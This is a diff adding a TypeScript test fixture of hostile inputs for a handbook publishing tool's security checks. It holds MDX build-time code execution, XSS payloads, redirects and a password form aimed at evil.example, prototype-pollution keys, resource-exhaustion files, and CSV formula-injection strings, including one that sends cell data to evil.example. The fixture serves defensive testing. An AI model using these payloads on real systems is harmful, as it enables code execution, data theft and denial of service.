@@ -1,0 +1,311 @@
+// The hostile corpus: content written by an attacker with a pull request, one case per attack, each
+// starting from a copy of the bad-input corpus's small valid handbook (test/fixtures/bad-input/base).
+// Every case names the guard that stops it (docs/content-model.md); test/integration/hostile-corpus.test.ts
+// runs them. A case fails if its guard is removed.
+import { execFileSync } from 'node:child_process';
+import { appendFileSync, cpSync, mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { CORPUS } from './bad-input-corpus.ts';
+import { edit } from './helpers.ts';
+
+/** What `okr check --audience public` must report for a case (the file relative to the content). */
+export interface Reported {
+  file: string;
+  line?: number;
+  message: RegExp;
+}
+
+export interface HostileCase {
+  name: string;
+  /** The class of attack, as the issue lists them. */
+  kind: 'mdx' | 'keys' | 'projection' | 'bounded';
+  about: string;
+  /** Write the attack into a copy of the base handbook. */
+  prepare: (dir: string) => void;
+  /** An error okr check must report, or (projection) a string the public handbook must not contain. */
+  expect: Reported | { leak: string };
+  /** The MDX page holding the attack, for the renderer's own refusal (build-time defence). */
+  page?: string;
+}
+
+/** A guide page holding `body`, public so that the public build would publish it. */
+const guide = (name: string, body: string) => (dir: string) =>
+  writeFileSync(join(dir, `guides/${name}.mdx`), `---\ntitle: ${name}\nclassification: public\n---\n\nIntroduction.\n\n${body}\n`);
+/** Its first body line is line 8. */
+const BODY = 8;
+
+/** The base's quarter made public: its objectives are public unless they say otherwise. */
+const publicPeriod = (dir: string) => edit(join(dir, 'periods/2030-Q1.yaml'), 'kind: quarter', 'kind: quarter\nclassification: public');
+
+/** A named pipe (Node has no mkfifo of its own). */
+const mkfifoSync = (path: string) => execFileSync('mkfifo', [path]);
+
+/** The file a build-time attack would write if its code ran (inside the copied content). */
+export const PWNED = 'PWNED-BY-MDX';
+
+const mdx = (name: string, about: string, body: string, message: RegExp, line = BODY): HostileCase => ({
+  name: `mdx-${name}`,
+  kind: 'mdx',
+  about,
+  prepare: guide(name, body),
+  expect: { file: `guides/${name}.mdx`, line, message },
+  page: `guides/${name}.mdx`,
+});
+
+export const HOSTILE: HostileCase[] = [
+  mdx(
+    'import-writes-a-file',
+    'an import whose code writes a file at build time',
+    `import { writeFileSync } from 'node:fs'\nexport const pwned = writeFileSync(new URL('../${PWNED}', import.meta.url), 'ran')`,
+    /cannot import or export code/,
+  ),
+  mdx(
+    'import-publishes-hostname',
+    'code that reads /etc/hostname into the page',
+    `import { readFileSync } from 'node:fs'\n\nHost: {readFileSync('/etc/hostname', 'utf8')}`,
+    /cannot import or export code/,
+  ),
+  mdx(
+    'raw-import',
+    'a ?raw import of an internal YAML file into a public page',
+    "import secret from '../okrs/2030-Q1/company.yaml?raw'\n\n<pre>{secret}</pre>",
+    /cannot import or export code/,
+  ),
+  mdx('url-import', 'a ?url import', "import where from '../org.yaml?url'\n\n[x](/)", /cannot import or export code/),
+  mdx('expression', 'an expression evaluated at build time', 'Home: {process.env.HOME}', /cannot hold expressions/),
+  mdx('attribute-expression', 'an attribute written as an expression', '<span title={process.env.HOME}>x</span>', /is an expression/),
+  mdx('script', 'a script element', '<script>alert(document.cookie)</script>', /<script> is not allowed/),
+  mdx('onerror', 'an image with an onerror handler', '<img src="/x.png" onerror="alert(1)" />', /attribute 'onerror'/),
+  mdx('ontoggle', 'a details element with an ontoggle handler', '<details open ontoggle="alert(1)">x</details>', /attribute 'ontoggle'/),
+  mdx('iframe-srcdoc', 'an iframe with a srcdoc document', '<iframe srcdoc="<script>alert(1)</script>" />', /<iframe> is not allowed/),
+  mdx('set-html', "Astro's set:html directive", '<div set:html="<img src=x onerror=alert(1)>" />', /attribute 'set:html'/),
+  mdx(
+    'base-href',
+    'a <base> that moves every relative URL to another host',
+    '<base href="https://evil.example/" />',
+    /<base> is not allowed/,
+  ),
+  mdx(
+    'meta-refresh',
+    'a <meta> refresh to another site',
+    '<meta httpEquiv="refresh" content="0;url=https://evil.example/" />',
+    /<meta> is not allowed/,
+  ),
+  mdx('javascript-link', 'a javascript: link written as HTML', '<a href="javascript:alert(1)">click</a>', /link to 'javascript:/),
+  mdx(
+    'markdown-javascript-link',
+    'a javascript: link in Markdown, entity-encoded',
+    '[click](&#106;avascript:alert(1))',
+    /link to 'javascript:/,
+  ),
+  mdx('data-link', 'a data: URL document', '[click](data:text/html,<script>alert(1)</script>)', /link to 'data:/),
+  mdx('external-image', 'a tracking image from another host', '![x](https://evil.example/pixel.png)', /another host/),
+  mdx(
+    'style',
+    'a style attribute that covers the page',
+    '<div style="position:fixed;inset:0;background:white">Sign in again</div>',
+    /attribute 'style'/,
+  ),
+  mdx('svg-script', 'script inside SVG', '<svg><script>alert(1)</script></svg>', /<svg> is not allowed/),
+  mdx(
+    'form',
+    'a form that posts elsewhere',
+    '<form action="https://evil.example/"><input name="password" /></form>',
+    /<form> is not allowed/,
+  ),
+  mdx('object', 'an embedded object', '<object data="https://evil.example/x.swf" />', /<object> is not allowed/),
+  mdx('spread', 'attributes spread from an expression', '<span {...globalThis}>x</span>', /spread/),
+  {
+    name: 'mdx-narrative-script',
+    kind: 'mdx',
+    about: "a period narrative's script",
+    prepare: (dir) => appendFileSync(join(dir, 'periods/2030-Q1.mdx'), '\n<script>alert(1)</script>\n'),
+    expect: { file: 'periods/2030-Q1.mdx', line: 6, message: /<script> is not allowed/ },
+    page: 'periods/2030-Q1.mdx',
+  },
+  {
+    name: 'mdx-markdown-page-html',
+    kind: 'mdx',
+    about: 'raw HTML in a .md guide, which Markdown would pass through',
+    prepare: (dir) => writeFileSync(join(dir, 'guides/plain.md'), '---\ntitle: Plain\n---\n\n<script>alert(1)</script>\n'),
+    expect: { file: 'guides/plain.md', line: 5, message: /raw HTML is not allowed/ },
+    page: 'guides/plain.md',
+  },
+  {
+    name: 'mdx-slug-twice',
+    kind: 'mdx',
+    about: 'an internal guide x.md beside a public x.mdx (one address, two pages)',
+    prepare: (dir) => {
+      edit(join(dir, 'guides/welcome.mdx'), 'order: 1', 'order: 1\nclassification: public');
+      writeFileSync(
+        join(dir, 'guides/welcome.md'),
+        '---\ntitle: Welcome (internal)\nclassification: internal\n---\n\nCANARY internal notes.\n',
+      );
+    },
+    expect: { file: 'guides/welcome.mdx', message: /guides\/welcome\.md and this file are both the page 'welcome'/ },
+  },
+  {
+    name: 'keys-proto-period',
+    kind: 'keys',
+    about: '__proto__ in a period file, which made the internal period public',
+    prepare: (dir) => appendFileSync(join(dir, 'periods/2030-Q1.yaml'), '__proto__: { classification: public }\n'),
+    expect: { file: 'periods/2030-Q1.yaml', line: 8, message: /'__proto__' is not a field/ },
+  },
+  {
+    name: 'keys-proto-org',
+    kind: 'keys',
+    about: '__proto__ in org.yaml, which made everything public',
+    prepare: (dir) =>
+      edit(
+        join(dir, 'org.yaml'),
+        'defaultClassification: internal',
+        'defaultClassification: internal\n__proto__: { defaultClassification: public }',
+      ),
+    expect: { file: 'org.yaml', line: 5, message: /'__proto__' is not a field/ },
+  },
+  {
+    name: 'keys-constructor',
+    kind: 'keys',
+    about: 'constructor as a key inside an objective',
+    prepare: (dir) =>
+      edit(join(dir, 'okrs/2030-Q1/company.yaml'), '    owner: ceo', '    owner: ceo\n    constructor: { classification: public }'),
+    expect: { file: 'okrs/2030-Q1/company.yaml', line: 7, message: /'constructor' is not a field/ },
+  },
+  {
+    name: 'keys-prototype',
+    kind: 'keys',
+    about: 'prototype as a key of a KPI',
+    prepare: (dir) => edit(join(dir, 'kpis/finance.yaml'), 'owner: ceo }', 'owner: ceo, prototype: x }'),
+    expect: { file: 'kpis/finance.yaml', message: /'prototype' is not a field/ },
+  },
+  {
+    name: 'projection-internal-pillar',
+    kind: 'projection',
+    about: 'a pillar only an internal objective names, in a public period',
+    prepare: (dir) => {
+      publicPeriod(dir);
+      edit(join(dir, 'org.yaml'), 'pillars:\n', 'pillars:\n  - { id: secret-bet, name: CANARY-PILLAR-SECRET-BET }\n');
+      edit(join(dir, 'okrs/2030-Q1/company.yaml'), 'pillar: reliability', 'pillar: secret-bet\n    classification: internal');
+    },
+    expect: { leak: 'CANARY-PILLAR-SECRET-BET' },
+  },
+  {
+    name: 'projection-internal-gate',
+    kind: 'projection',
+    about: 'a stage gate only an internal objective names, in a public period',
+    prepare: (dir) => {
+      publicPeriod(dir);
+      appendFileSync(join(dir, 'org.yaml'), 'stageGates:\n  - { id: acquire, name: CANARY-GATE-ACQUIRE }\n');
+      edit(
+        join(dir, 'okrs/2030-Q1/company.yaml'),
+        'pillar: reliability',
+        'pillar: reliability\n    stageGate: acquire\n    classification: internal',
+      );
+    },
+    expect: { leak: 'CANARY-GATE-ACQUIRE' },
+  },
+  {
+    name: 'projection-redacted-labels',
+    kind: 'projection',
+    about: "a public redacted key result's labels (the wording of its hidden values)",
+    prepare: (dir) => {
+      publicPeriod(dir);
+      appendFileSync(join(dir, 'org.yaml'), 'redactions:\n  - { id: n1, label: N1 }\n');
+      edit(
+        join(dir, 'okrs/2030-Q1/company.yaml'),
+        '      - { id: kr2, title: Launch event held, kind: milestone }',
+        "      - { id: kr2, title: 'Sign {n1} logos', kind: redacted, values: [n1], labels: { target: 'CANARY-REDACTED-40-LOGOS' } }",
+      );
+    },
+    expect: { leak: 'CANARY-REDACTED-40-LOGOS' },
+  },
+  {
+    name: 'bounded-fifo',
+    kind: 'bounded',
+    about: 'a named pipe among the content files (reading it blocked forever)',
+    prepare: (dir) => mkfifoSync(join(dir, 'kpis/pipe.yaml')),
+    expect: { file: 'kpis/pipe.yaml', message: /named pipe \(FIFO\), not a file/ },
+  },
+  {
+    name: 'bounded-dev-zero',
+    kind: 'bounded',
+    about: 'a link to /dev/zero (reading it grew memory until the process was killed)',
+    prepare: (dir) => symlinkSync('/dev/zero', join(dir, 'kpis/zero.yaml')),
+    expect: { file: 'kpis/zero.yaml', message: /link to \/dev\/zero, a character device/ },
+  },
+  {
+    name: 'bounded-fifo-in-trust',
+    kind: 'bounded',
+    about: 'a named pipe where a snapshot file belongs',
+    prepare: (dir) => {
+      mkdirSync(join(dir, 'trust/2030-Q1/v1'), { recursive: true });
+      mkfifoSync(join(dir, 'trust/2030-Q1/v1/manifest.json'));
+    },
+    expect: { file: 'trust/2030-Q1/v1/manifest.json', message: /named pipe/ },
+  },
+  {
+    name: 'bounded-huge-file',
+    kind: 'bounded',
+    about: 'a 20 MB content file',
+    prepare: (dir) => writeFileSync(join(dir, 'kpis/huge.yaml'), `id: huge\nname: Huge\ndescription: ${'x'.repeat(20 * 1024 * 1024)}\n`),
+    expect: { file: 'kpis/huge.yaml', message: /larger than 16 MB/ },
+  },
+  {
+    name: 'bounded-recursive-alias',
+    kind: 'bounded',
+    about: 'a three-line anchor that names itself (a stack overflow in check, build, export and diff)',
+    prepare: (dir) => appendFileSync(join(dir, 'kpis/finance.yaml'), 'loop: &loop\n  again: *loop\n'),
+    expect: { file: 'kpis/finance.yaml', line: 6, message: /alias of a mapping or list that contains it/ },
+  },
+  {
+    name: 'bounded-recursive-alias-in-list',
+    kind: 'bounded',
+    about: 'a list that contains itself',
+    prepare: (dir) => appendFileSync(join(dir, 'kpis/finance.yaml'), 'loop: &loop [1, *loop]\n'),
+    expect: { file: 'kpis/finance.yaml', message: /alias of a mapping or list that contains it/ },
+  },
+  {
+    name: 'bounded-mdx-nested-expressions',
+    kind: 'bounded',
+    about: 'MDX nested 7,000 levels deep (the parser crashed the process)',
+    prepare: guide('deep', `{${'('.repeat(7000)}${')'.repeat(7000)}}`),
+    expect: { file: 'guides/deep.mdx', line: BODY, message: /nests more than 100 levels/ },
+    page: 'guides/deep.mdx',
+  },
+  {
+    name: 'bounded-mdx-nested-tags',
+    kind: 'bounded',
+    about: 'MDX with 50,000 nested tags',
+    prepare: guide('tags', `${'<span>'.repeat(50_000)}x${'</span>'.repeat(50_000)}`),
+    expect: { file: 'guides/tags.mdx', line: BODY, message: /nests more than 100 levels/ },
+    page: 'guides/tags.mdx',
+  },
+  {
+    name: 'bounded-mdx-nested-lists',
+    kind: 'bounded',
+    about: 'Markdown lists nested 250,000 deep on one line',
+    prepare: guide('lists', `${'1. '.repeat(250_000)}x`),
+    expect: { file: 'guides/lists.mdx', line: BODY, message: /nests more than 100 levels/ },
+    page: 'guides/lists.mdx',
+  },
+];
+
+/** A copy of the base handbook with the case's attack written into it. */
+export function prepareHostile(c: HostileCase, root: string): string {
+  const dir = join(root, c.name);
+  cpSync(join(CORPUS, 'base'), dir, { recursive: true });
+  c.prepare(dir);
+  return dir;
+}
+
+/** Formula payloads a spreadsheet would run, each with what the CSV cell must read. */
+export const CSV_PAYLOADS: [string, string][] = [
+  ["-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"],
+  ['=HYPERLINK("https://evil.example/?"&A1,"x")', `"'=HYPERLINK(""https://evil.example/?""&A1,""x"")"`],
+  ['+1+cmd|x', "'+1+cmd|x"],
+  ['@SUM(1+1)*cmd|x', "'@SUM(1+1)*cmd|x"],
+  ['\t=1+1', "'\t=1+1"],
+  ['\r=1+1', `"'\r=1+1"`],
+  ['＝1+1', "'＝1+1"],
+  ['-2.5e3+cmd|x', "'-2.5e3+cmd|x"],
+];
